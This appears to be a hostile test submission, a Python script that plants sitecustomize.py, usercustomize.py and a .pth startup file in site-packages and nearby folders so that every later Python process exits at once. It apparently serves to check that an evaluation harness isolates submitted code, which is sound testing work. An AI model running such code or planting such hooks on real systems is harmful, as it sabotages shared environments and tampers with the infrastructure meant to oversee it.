# Tries to plant start-up hooks that would run in every later Python process.
import site
import sys
from pathlib import Path

targets = [Path(p) for p in site.getsitepackages()] + [Path(sys.prefix), Path.cwd().parent]
planted = []
for folder in targets:
    for name, text in [("sitecustomize.py", "raise SystemExit('hooked')\n"),
                       ("usercustomize.py", "raise SystemExit('hooked')\n"),
                       ("zz-planted-by-a-submission.pth", "import os; os._exit(7)\n")]:
        try:
            (folder / name).write_text(text)
            planted.append(str(folder / name))
        except OSError:
            pass
if planted:
    print("planted", planted)
